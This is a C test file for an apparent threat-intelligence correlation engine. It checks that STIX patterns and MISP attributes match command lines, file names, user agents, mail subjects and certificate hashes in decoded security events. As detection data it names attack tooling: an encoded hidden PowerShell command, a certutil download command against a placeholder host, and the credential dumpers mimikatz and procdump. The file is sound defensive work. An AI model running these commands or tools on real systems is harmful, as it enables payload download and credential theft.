/*
 * 0019-stix-observables: STIX patterns and MISP attributes on the text and
 * certificate observables SOC events carry (command line, file name, process
 * name, HTTP user agent, mail subject, X.509 hashes), each matched only in its
 * role, "=" as the whole value, LIKE and MATCHES as written; what is still not
 * matched on is rejected with its reason. Events decoded from ECS, EVE and
 * OCSF, each observable matched as ingest matches it.
 */
#include "cs_test.h"
#include "cs_correlate.h"
#include "cs_decode.h"

#define CERT "3f2a0c5d9b8e7f6a1b2c3d4e5f60718293a4b5c6d7e8f9011223344556677889"
#define ID(n) "indicator--5b1f6a3e-0000-4000-8000-00000000000" #n

static cs_corr_db_t *db;
static cs_corr_scratch_t *scr;
static cs_decode_t *dec;

typedef struct {
	char ids[256]; /* the last character of each hit's origin (an 'm' more for MISP), sorted */
	int n;
} hits_t;

static int on_hit(void *opaque, const cs_corr_hit_t *hit) {
	hits_t *h = opaque;
	const char *o = hit->ind->origin;
	size_t l = strlen(o), u = strlen(h->ids);
	if (u + 4 < sizeof(h->ids))
		snprintf(h->ids + u, sizeof(h->ids) - u, "%s%c", strstr(o, ":misp:") ? "m" : "", o[l - 1]);
	h->n++;
	return 0;
}

static int cmpc(const void *a, const void *b) {
	return *(const char *)a - *(const char *)b;
}

/* The hits of one event: the sorted last characters of the origins ("" when none). */
static const char *hits(const char *event) {
	static hits_t h;
	cs_decode_event_t ev;
	size_t used;
	memset(&h, 0, sizeof(h));
	if (cs_decode_one(dec, CS_DECODE_FMT_AUTO, event, strlen(event), &used, &ev) != CS_DECODE_OK)
		return "(rejected)";
	cs_corr_scratch_at(scr, ev.ts_ms);
	for (size_t i = 0; i < ev.obs_cnt; i++)
		if (cs_corr_match(db, scr, &ev.obs[i], on_hit, &h))
			return "(match failed)";
	qsort(h.ids, strlen(h.ids), 1, cmpc);
	return h.ids;
}

static int count_rejects(const char *needle) {
	int n = 0;
	for (size_t i = 0; i < cs_corr_db_reject_count(db); i++)
		n += strstr(cs_corr_db_reject(db, i), needle) != NULL;
	return n;
}

int cs_test_0019(void) {
	char stix[512], misp[512], errstr[512];
	const char *paths[2] = {stix, misp};
	cs_decode_conf_t *conf = cs_decode_conf_new();

	snprintf(stix, sizeof(stix), "%s/observables.stix.json", cs_test_tmpdir());
	snprintf(misp, sizeof(misp), "%s/observables.misp.json", cs_test_tmpdir());
#define IND(n, pat) "{\"type\":\"indicator\",\"spec_version\":\"2.1\",\"id\":\"" ID(n) "\",\"pattern_type\":\"stix\"," \
		    "\"created\":\"2026-12-01T00:00:00.000Z\",\"modified\":\"2026-12-01T00:00:00.000Z\",\"valid_from\":\"2026-12-01T00:00:00Z\",\"pattern\":\"" pat "\"}"
	CS_TEST_EQ_INT(cs_test_write_file(stix,
		"{\"type\":\"bundle\",\"id\":\"bundle--5b1f6a3e-0000-4000-8000-000000000000\",\"objects\":["
		IND(1, "[process:command_line = 'powershell.exe -nop -w hidden -enc SQBFAFgA']") ","
		IND(2, "[file:name = 'invoice_2026.pdf.exe']") ","
		IND(3, "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'Mozilla/5.0 (evil-bot 1.0)']") ","
		IND(4, "[x509-certificate:hashes.'SHA-256' = '" CERT "']") ","
		IND(5, "[email-message:subject LIKE 'Urgent: invoice %']") ","
		IND(6, "[process:name = 'mimikatz.exe' OR process:image_ref.name = 'procdump64.exe']") ","
		IND(7, "[process:command_line MATCHES 'certutil(\\\\\\\\.exe)? -urlcache']") ","
		IND(8, "[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\\\\\Software\\\\\\\\Evil']") ","
		IND(9, "[file:name ISSUBSET 'x.exe']") ","
		"{\"type\":\"indicator\",\"spec_version\":\"2.1\",\"id\":\"indicator--5b1f6a3e-0000-4000-8000-00000000000a\",\"pattern_type\":\"stix\","
		"\"created\":\"2026-12-01T00:00:00.000Z\",\"modified\":\"2026-12-01T00:00:00.000Z\",\"valid_from\":\"2026-12-01T00:00:00Z\","
		"\"pattern\":\"[process:command_line = 'ab']\"}"
		"]}"), 0);
	CS_TEST_EQ_INT(cs_test_write_file(misp,
		"{\"Event\":{\"uuid\":\"a8c3e2f1-0000-4000-8000-000000000000\",\"info\":\"observables\",\"Orgc\":{\"name\":\"CSIRT-XX\"},\"Attribute\":["
		"{\"uuid\":\"a8c3e2f1-0000-4000-8000-00000000000a\",\"type\":\"user-agent\",\"value\":\"curl/7.1 (loader)\",\"to_ids\":true},"
		"{\"uuid\":\"a8c3e2f1-0000-4000-8000-00000000000b\",\"type\":\"filename\",\"value\":\"setup (1).msi\",\"to_ids\":true},"
		"{\"uuid\":\"a8c3e2f1-0000-4000-8000-00000000000c\",\"type\":\"email-subject\",\"value\":\"Your parcel is waiting\",\"to_ids\":true},"
		"{\"uuid\":\"a8c3e2f1-0000-4000-8000-00000000000d\",\"type\":\"x509-fingerprint-sha1\",\"value\":\"5ae2c9b1f0e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4\",\"to_ids\":true},"
		"{\"uuid\":\"a8c3e2f1-0000-4000-8000-00000000000e\",\"type\":\"regkey\",\"value\":\"HKLM\\\\Software\\\\Evil\",\"to_ids\":true}"
		"]}}"), 0);
	CS_TEST_ASSERT((db = cs_corr_db_load(paths, 2, 1, errstr, sizeof(errstr))), "%s", errstr);
	CS_TEST_ASSERT((scr = cs_corr_scratch_new(db, errstr, sizeof(errstr))), "%s", errstr);
	CS_TEST_ASSERT((dec = cs_decode_new(conf, errstr, sizeof(errstr))), "%s", errstr);

	/* what loaded: 7 STIX indicators make 8 (6 has two comparisons), 4 MISP attributes */
	CS_TEST_EQ_INT(cs_corr_db_count(db), 12);
	CS_TEST_EQ_INT(cs_corr_db_reject_count(db), 4);
	CS_TEST_EQ_INT(count_rejects("object path windows-registry-key:key is not matched on"), 1);
	CS_TEST_EQ_INT(count_rejects("ISSUBSET on a text path"), 1);
	CS_TEST_EQ_INT(count_rejects("too broad (at least 4): \"^ab$\""), 1);
	CS_TEST_EQ_INT(count_rejects("MISP attribute type regkey is not matched on"), 1);

	/* the command line: the whole value, in its role only */
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"process\":{\"command_line\":\"powershell.exe -nop -w hidden -enc SQBFAFgA\",\"name\":\"powershell.exe\"}}"),
		       "1");
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"process\":{\"command_line\":\"powershell.exe -nop -w hidden -enc SQBFAFgA -x\"}}"),
		       "");
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"user_agent\":{\"original\":\"powershell.exe -nop -w hidden -enc SQBFAFgA\"}}"),
		       "");
	/* MATCHES as written: anywhere in the command line (OCSF) */
	CS_TEST_EQ_STR(hits("{\"time\":1796378400000,\"class_uid\":1007,"
			    "\"process\":{\"cmd_line\":\"cmd /c certutil.exe -urlcache -f http://x/y\",\"name\":\"mimikatz.exe\"}}"),
		       "67");
	CS_TEST_EQ_STR(hits("{\"time\":1796378400000,\"class_uid\":1007,\"actor\":{\"process\":{\"name\":\"procdump64.exe\"}}}"), "6");
	/* file names (ECS, EVE), user agents (EVE: STIX and MISP), mail subjects (EVE: LIKE and MISP) */
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"file\":{\"name\":\"invoice_2026.pdf.exe\"}}"),
		       "2");
	CS_TEST_EQ_STR(hits("{\"timestamp\":\"2026-12-04T10:00:00.000+0000\",\"event_type\":\"fileinfo\","
			    "\"fileinfo\":{\"filename\":\"setup (1).msi\"}}"),
		       "bm");
	CS_TEST_EQ_STR(hits("{\"timestamp\":\"2026-12-04T10:00:00.000+0000\",\"event_type\":\"http\",\"http\":{"
			    "\"hostname\":\"a.example\",\"http_user_agent\":\"Mozilla/5.0 (evil-bot 1.0)\"}}"),
		       "3");
	CS_TEST_EQ_STR(hits("{\"timestamp\":\"2026-12-04T10:00:00.000+0000\",\"event_type\":\"http\",\"http\":{"
			    "\"hostname\":\"a.example\",\"http_user_agent\":\"curl/7.1 (loader)\"}}"),
		       "am");
	CS_TEST_EQ_STR(hits("{\"timestamp\":\"2026-12-04T10:00:00.000+0000\",\"event_type\":\"smtp\",\"email\":{"
			    "\"subject\":\"Urgent: invoice 4471 overdue\"}}"),
		       "5");
	CS_TEST_EQ_STR(hits("{\"timestamp\":\"2026-12-04T10:00:00.000+0000\",\"event_type\":\"smtp\",\"email\":{"
			    "\"subject\":\"Re: Urgent: invoice 4471\"}}"),
		       "");
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"email\":{\"subject\":\"Your parcel is waiting\"}}"),
		       "cm");
	/* certificate hashes: as the server's certificate, never as a file's */
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"tls\":{\"server\":{\"hash\":{\"sha256\":\"" CERT "\",\"sha1\":\"5AE2C9B1F0E8D7C6B5A4F3E2D1C0B9A8F7E6D5C4\"}}}}"),
		       "4dm");
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"file\":{\"hash\":{\"sha256\":\"" CERT "\"}}}"),
		       "");
	/* a file name that is another indicator's command line: no hit */
	CS_TEST_EQ_STR(hits("{\"@timestamp\":\"2026-12-04T10:00:00Z\",\"ecs\":{\"version\":\"8.11\"},"
			    "\"file\":{\"name\":\"certutil -urlcache\"}}"),
		       "");

	cs_decode_destroy(dec);
	cs_decode_conf_destroy(conf);
	cs_corr_scratch_destroy(scr);
	cs_corr_db_destroy(db);
	return 0;
}
